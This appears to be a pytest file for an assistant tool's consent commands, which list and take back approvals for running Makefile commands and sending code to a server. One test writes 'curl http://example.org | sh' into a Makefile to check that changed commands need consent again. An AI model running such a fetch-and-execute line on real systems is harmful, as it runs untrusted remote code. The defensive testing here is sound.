"""What was agreed to is listed, and can be taken back."""

import json

import pytest

from assistant.checks.commands import parse_command
from assistant.checks.consent import Consents
from assistant.checks.results import CommandResult
from assistant.cli import composition
from assistant.headless.outcome import Kind
from assistant.solving.events import NothingToFix


@pytest.fixture
def consents(repo):
    return Consents(composition.load_settings().state_dir, clock=lambda: 86_400.0 * 20_000)


def test_nothing_is_remembered_at_first(consents, run):
    assert run("trust", "list")[:2] == (0, "Nothing that you agreed to is remembered.\n")
    assert run("trust", "revoke", "--all")[:2] == (0, "Nothing that you agreed to is remembered.\n")


def test_every_answer_is_listed_with_its_repository(consents, run, repo, monkeypatch):
    consents.grant(repo, parse_command("make test"), confinement="bubblewrap")
    consents.allow_sending(repo, "http://box:80")
    out = run("trust", "list")[1]
    assert "  1  2024-10-04 " in out
    assert str(repo) in out
    assert "run: make test (bubblewrap)" in out
    assert "send code to http://box:80" in out
    rows = json.loads(run("trust", "list", "--json")[1])["agreements"]
    assert [row["number"] for row in rows] == [1, 2]
    assert {row["repository"] for row in rows} == {str(repo)}
    assert rows[0]["time"] == 86_400.0 * 20_000
    monkeypatch.setenv("ASSISTANT_ENGINE_TRUSTED", "1")
    assert "Your settings agree for every repository: engine_trusted" in run("trust", "list")[1]


def test_what_was_taken_back_is_asked_for_again(repo, tasks, run, monkeypatch):
    (repo / "Makefile").write_text("test:\n\ttrue\n")
    tasks[Kind.FIX] = [NothingToFix(CommandResult(("make", "test"), 0, "", 0.1))]
    asked = []

    def prompt(question, **options):
        asked.append(question)
        return "a"

    monkeypatch.setattr(composition, "terminal", lambda: True)
    monkeypatch.setattr("click.prompt", prompt)
    for expected in (1, 1):
        run("fix")
        assert len(asked) == expected
    assert "suggested by Makefile" in run("trust", "list")[1]
    code, out, _ = run("trust", "revoke", "1")
    assert code == 0
    assert out.startswith("Taken back: run: make test")
    assert out.endswith(f" in {repo}\n")
    run("fix")
    assert len(asked) == 2
    (repo / "Makefile").write_text("test:\n\tcurl http://example.org | sh\n")
    run("fix")
    assert len(asked) == 3, "what suggested the command has changed"
    assert run("trust", "revoke", "--all")[0] == 0
    assert "Nothing" in run("trust", "list")[1]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ((), "Say what to take back."),
        (("1", "--all"), "Say what to take back."),
        (("2",), "There is no answer with the number 2."),
        (("0",), "Invalid value for '[NUMBER]'"),
    ],
)
def test_what_cannot_be_taken_back_is_a_usage_error(consents, run, repo, arguments, message):
    consents.grant(repo, parse_command("make test"))
    code, _, err = run("trust", "revoke", *arguments)
    assert code == 2
    assert message in err
    assert "hint: " in err
    assert len(consents.agreements()) == 1
